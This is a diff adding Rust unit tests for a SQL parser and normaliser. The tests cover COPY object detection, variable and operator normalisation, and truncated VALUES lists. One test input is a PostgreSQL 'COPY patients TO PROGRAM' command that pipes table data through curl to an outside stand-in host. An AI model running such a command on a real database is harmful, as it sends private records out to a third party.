@@ -253,6 +253,48 @@ fn objects_of_ddl() {
 }
 
 #[test]
+fn objects_of_copy() {
+    assert_eq!(objs(&pg("COPY tmp FROM STDIN")), vec![o("tmp", "write")]);
+    assert_eq!(
+        objs(&pg("COPY copied (id, name) FROM STDIN")),
+        vec![o("copied", "write")]
+    );
+    assert_eq!(
+        objs(&pg("COPY patients TO PROGRAM 'curl -T - http://x'")),
+        vec![o("patients", "read")]
+    );
+    assert_eq!(
+        objs(&pg("COPY (SELECT id FROM copied WHERE id < 600) TO STDOUT")),
+        vec![o("copied", "read")]
+    );
+}
+
+#[test]
+fn variables_and_operators() {
+    assert_eq!(
+        my("SET @@session.autocommit = OFF").normalized,
+        "set @@session.autocommit = off"
+    );
+    assert_eq!(my("SELECT @x := 1").normalized, "select @x := ?");
+    assert_eq!(
+        pg("SELECT count(*) FROM t WHERE jb @> $2").normalized,
+        "select count(*) from t where jb @> ?"
+    );
+    assert_eq!(
+        my("CREATE USER 'bob'@'%' IDENTIFIED BY 'x'").normalized,
+        "create user ? @ ? identified by ?"
+    );
+}
+
+#[test]
+fn a_values_list_cut_by_the_end_of_the_text_collapses() {
+    assert_eq!(
+        my("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y'), (3, 'cut her").normalized,
+        "insert into t(a, b) values(?+)"
+    );
+}
+
+#[test]
 fn objects_of_calls() {
     assert_eq!(
         objs(&my("CALL his.discharge(1, 2)")),
